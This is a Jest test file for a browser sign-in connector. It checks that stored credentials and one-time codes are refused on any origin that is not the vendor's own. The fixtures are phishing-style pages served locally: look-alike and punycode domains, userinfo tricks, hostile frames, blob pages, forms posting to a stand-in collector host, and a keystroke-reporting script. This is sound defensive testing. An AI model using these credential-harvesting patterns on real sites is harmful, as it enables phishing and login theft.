import { afterAll, beforeEach, expect, test } from '@jest/globals';
import type { BrowserHost } from '../../connectors/browser/chromium.ts';
import { makeCole } from '../../connectors/cole/index.ts';
import type { SessionDeps } from '../../connectors/auth/session.ts';
import type { NeedsHuman } from '../../pipeline/errors.ts';
import { makeSessionDeps, startBrowser } from './session-deps.ts';

/*
 * Addresses of all kinds, answered inside a real browser: each page says what is typed into it, and what it is sent. Nothing
 * of this leaves the machine.
 */
const own = 'https://cole.example';
const real = startBrowser();
let pages: Record<string, string> = {};
let told: string[] = [];

const watched = `<script>for (const field of document.querySelectorAll('input')) field.addEventListener('input', () => navigator.sendBeacon('/told', 'typed ' + field.value));</script>`;
const form = (attributes = '', button = '') =>
  `<form method=post ${attributes}><label>Email <input name=user type=email></label><label>Password <input name=password type=password></label><button ${button}>Sign in</button></form>${watched}`;
const to = (address: string) => `<script>location.replace(${JSON.stringify(address)})</script>`;
const framed = (address: string) => `<h1>Cole</h1><iframe src="${address}" width=600 height=400></iframe>`;
const inside = '<a href=/search>New Search</a> <a href=/out>Sign out</a><p>Welcome.</p>';

/** The browser, in which every address is one of `pages`. */
const browser: BrowserHost = {
  close: () => real.close(),
  async running() {
    const running = await real.running();
    const newContext: typeof running.browser.newContext = async (options) => {
      const context = await running.browser.newContext(options);
      await context.route('**', async (route) => {
        const request = route.request();
        const { origin, pathname } = new URL(request.url());
        const isSent = request.method() === 'POST';
        if (isSent) told.push(`${origin} ${request.postData()}`);
        const page = isSent ? (pages[`${origin} sent`] ?? inside) : pages[origin + pathname.replace(/\/$/, '')];
        await route.fulfill({
          contentType: 'text/html; charset=utf-8',
          body: `<!doctype html><title>Page</title><body>${page ?? ''}`,
        });
      });
      return context;
    };
    return {
      ...running,
      browser: new Proxy(running.browser, {
        get: (target, name) => (name === 'newContext' ? newContext : (Reflect.get(target, name) as unknown)),
      }),
    };
  },
};
afterAll(() => browser.close());
beforeEach(() => {
  pages = {};
  told = [];
});

async function signIn(answers: Record<string, string>, more: Partial<SessionDeps> = {}, url = own) {
  pages = answers;
  const sessions = makeSessionDeps(browser, {
    patience: { thing: 1_000, page: 5_000, file: 5_000 },
    ...more,
  });
  const cole = makeCole({
    ...sessions,
    url,
    credentials: () =>
      Promise.resolve({ username: 'kim@agency.example', secret: 'blue-heron-41', totp: 'JBSW Y3DP EHPK 3PXP' }),
  });
  return { outcome: await cole.at('TX', () => Promise.resolve('inside')).catch((error: unknown) => error), sessions };
}

test("at the vendor's own origin name and password are typed", async () => {
  expect((await signIn({ [own]: form() })).outcome).toBe('inside');
  expect(told.join()).toContain('blue-heron-41');
});

const evil = 'https://collect.example';
const elsewhere: readonly (readonly [string, string, Record<string, string>])[] = [
  ['a redirect to another origin', evil, { [own]: to(evil), [evil]: form() }],
  [
    'a look-alike subdomain',
    'https://cole.example.collect.example',
    { [own]: to('https://cole.example.collect.example'), 'https://cole.example.collect.example': form() },
  ],
  [
    'a look-alike letter',
    'https://xn--cle-sna.example',
    { [own]: to('https://cöle.example'), 'https://xn--cle-sna.example': form() },
  ],
  ["the vendor's name before an @", evil, { [own]: to('https://cole.example@collect.example/'), [evil]: form() }],
  [
    'another port',
    'https://cole.example:8443',
    { [own]: to('https://cole.example:8443'), 'https://cole.example:8443': form() },
  ],
  ['http instead of https', 'http://cole.example', { [own]: to('http://cole.example'), 'http://cole.example': form() }],
  ['a frame of another origin', evil, { [own]: framed(evil), [evil]: form() }],
  [
    "a frame in a frame of the vendor's",
    evil,
    { [own]: framed('/inner'), [`${own}/inner`]: framed(evil), [evil]: form() },
  ],
  [
    "the vendor's own page in a frame of somebody's",
    evil,
    { [own]: to(evil), [evil]: framed(`${own}/login`), [`${own}/login`]: form() },
  ],
  [
    'a frame without an address',
    'a page without an address',
    { [own]: `<h1>Cole</h1><iframe width=600 height=400 srcdoc="${form().replaceAll('"', '&quot;')}"></iframe>` },
  ],
  [
    'a page without an address',
    'a page without an address',
    {
      [own]: `<script>location.replace(URL.createObjectURL(new Blob([${JSON.stringify(form()).replaceAll('</', '<\\/')}], { type: 'text/html' })))</script>`,
    },
  ],
  ['a form that is sent elsewhere', evil, { [own]: form(`action=${evil}/take`) }],
  [
    'a form that is sent elsewhere, hidden by a field',
    evil,
    { [own]: form(`action=${evil}/take`).replace('<button', '<input type=hidden name=action value=/login><button') },
  ],
  ['a button that sends elsewhere', evil, { [own]: form('', `formaction=${evil}/take`) }],
  ['a page whose addresses begin elsewhere', evil, { [own]: `<base href="${evil}/">${form('action=login')}` }],
  [
    'a first page that asks for the name',
    evil,
    {
      [own]: to(evil),
      [evil]: `<form><label>Email <input name=user type=email></label><button>Continue</button></form>${watched}`,
    },
  ],
];

test.each(elsewhere)('%s gets nothing, and a person is told who asked', async (_, origin, answers) => {
  const { outcome, sessions } = await signIn(answers);
  expect(outcome).toMatchObject({ name: 'NeedsHuman', need: 'CHECK', facts: { login: 'cole:TX', origin } });
  const { message, todo, facts } = outcome as NeedsHuman;
  expect(message).toContain(origin);
  expect(message).toContain('Nothing was typed.');
  expect(todo).toContain(
    origin.startsWith('https:') ? `add cole=${origin} to SIGN_IN_ORIGINS` : 'No setting allows this',
  );
  expect(facts.screenshot).toMatch(/^evidence\//);
  expect(sessions.saved.map(({ kind }) => kind)).not.toContain('trace');
  expect(sessions.closed.size).toBe(0);
  expect(told).toEqual([]);
});

test('a password page elsewhere after the name was given here gets no password', async () => {
  const { outcome } = await signIn({
    [own]: `<form method=post><label>Email <input name=user type=email></label><button>Continue</button></form>`,
    [`${own} sent`]: to(evil),
    [evil]: form(),
  });
  expect(outcome).toMatchObject({ name: 'NeedsHuman', need: 'CHECK', facts: { origin: evil } });
  expect(told.join()).not.toContain('blue-heron-41');
});

test('a page elsewhere that asks for a code gets none', async () => {
  const { outcome } = await signIn({
    [own]: form(),
    [`${own} sent`]: to(`${evil}/code`),
    [`${evil}/code`]: `<h1>Check your phone</h1><p>We sent a verification code.</p><form method=post><label>Code <input name=otp></label><button>Verify</button></form>${watched}`,
  });
  expect(outcome).toMatchObject({ name: 'NeedsHuman', need: 'CHECK', facts: { origin: evil } });
  expect((outcome as NeedsHuman).message).toContain('asks for the code');
  expect(told.filter((line) => line.startsWith(evil))).toEqual([]);
});

test('an origin that the settings allow this vendor is one of its own, and of no other vendor', async () => {
  const answers = { [own]: to('https://login.example'), 'https://login.example': form('action=/in') };
  const allowed = await signIn(answers, { signInOrigins: [{ vendor: 'cole', origin: 'https://login.example' }] });
  expect(allowed.outcome).toBe('inside');
  expect(told.join()).toContain('https://login.example');
  told = [];
  const others = await signIn(answers, { signInOrigins: [{ vendor: 'clay', origin: 'https://login.example' }] });
  expect(others.outcome).toMatchObject({ need: 'CHECK' });
  expect(told).toEqual([]);
});

test("the vendor's own address without encryption gets nothing either", async () => {
  const { outcome } = await signIn({ 'http://cole.example': form() }, {}, 'http://cole.example');
  expect(outcome).toMatchObject({
    need: 'CHECK',
    message: 'cole:TX: the password would go to http://cole.example without encryption. Nothing was typed.',
  });
  expect(told).toEqual([]);
});
